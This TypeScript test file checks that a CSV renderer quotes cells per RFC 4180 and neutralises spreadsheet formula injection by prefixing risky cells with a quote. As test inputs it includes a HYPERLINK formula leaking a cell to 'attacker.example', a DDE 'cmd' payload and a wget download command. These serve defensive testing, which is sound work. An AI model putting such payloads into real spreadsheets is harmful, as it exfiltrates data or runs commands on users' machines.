// CSV cells: RFC 4180 quoting, and no cell a spreadsheet would run as a formula (OWASP's CSV injection rule).
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvCell, csvLine } from '../../../../api-server/render/csv.ts';

/** The cells of one RFC 4180 line (CRLF-terminated), as a spreadsheet reads them. */
function parseLine(line: string): string[] {
  expect(line.endsWith('\r\n')).toBe(true);
  const text = line.slice(0, -2);
  const cells: string[] = [];
  let i = 0;
  for (;;) {
    let cell = '';
    if (text[i] === '"') {
      for (i++; ; i++) {
        if (i >= text.length) throw new Error(`unterminated quote in ${JSON.stringify(line)}`);
        if (text[i] === '"') {
          if (text[i + 1] !== '"') break;
          i++;
        }
        cell += text[i];
      }
      i++;
    } else {
      while (i < text.length && text[i] !== ',') cell += text[i++];
    }
    cells.push(cell);
    if (i >= text.length) return cells;
    expect(text[i]).toBe(',');
    i++;
  }
}

/** The characters OWASP lists: a cell starting with one is a formula to Excel, LibreOffice or Sheets. */
const FORMULA_STARTS = ['=', '+', '-', '@', '\t', '\r'];

describe('csv cells', () => {
  it.each(FORMULA_STARTS)('a cell starting with %j is kept as text behind a quote', (start) => {
    for (const rest of ['HYPERLINK("http://attacker.example/?leak="&A1,"click")', 'cmd|\' /C calc\'!A0', '1+1', '', 'a,b\r\nc']) {
      const value = `${start}${rest}`;
      const [cell] = parseLine(csvLine([value]));
      expect(cell).toBe(`'${value}`);
    }
  });

  it('the honeypot command of the review comes out inert', () => {
    expect(csvCell('=HYPERLINK("http://x.example","y")')).toBe(`"'=HYPERLINK(""http://x.example"",""y"")"`);
  });

  it('other cells are unchanged: quoted only when RFC 4180 needs it', () => {
    expect(csvCell('wget http://x.example/a.sh')).toBe('wget http://x.example/a.sh');
    expect(csvCell('a,"b"\n')).toBe('"a,""b""\n"');
    expect(csvCell(' =1+1')).toBe(' =1+1');
    expect(csvCell('2001:db8::1')).toBe('2001:db8::1');
    expect(csvCell(22)).toBe('22');
    expect(csvCell(['ssh', 'web'])).toBe('ssh;web');
    expect(csvCell(null)).toBe('');
  });

  it('any value reads back as itself, or itself behind a quote when it would start a formula', () => {
    const text = fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', ',', "'", ';', 'a', '1', ' ', 'é') });
    fc.assert(
      fc.property(fc.array(text, { minLength: 1, maxLength: 5 }), (values) => {
        const cells = parseLine(csvLine(values));
        expect(cells).toHaveLength(values.length);
        cells.forEach((cell, i) => {
          const value = values[i] ?? '';
          expect(cell).toBe(FORMULA_STARTS.some((s) => value.startsWith(s)) ? `'${value}` : value);
          expect(FORMULA_STARTS.some((s) => cell.startsWith(s))).toBe(false);
        });
      }),
    );
  });
});
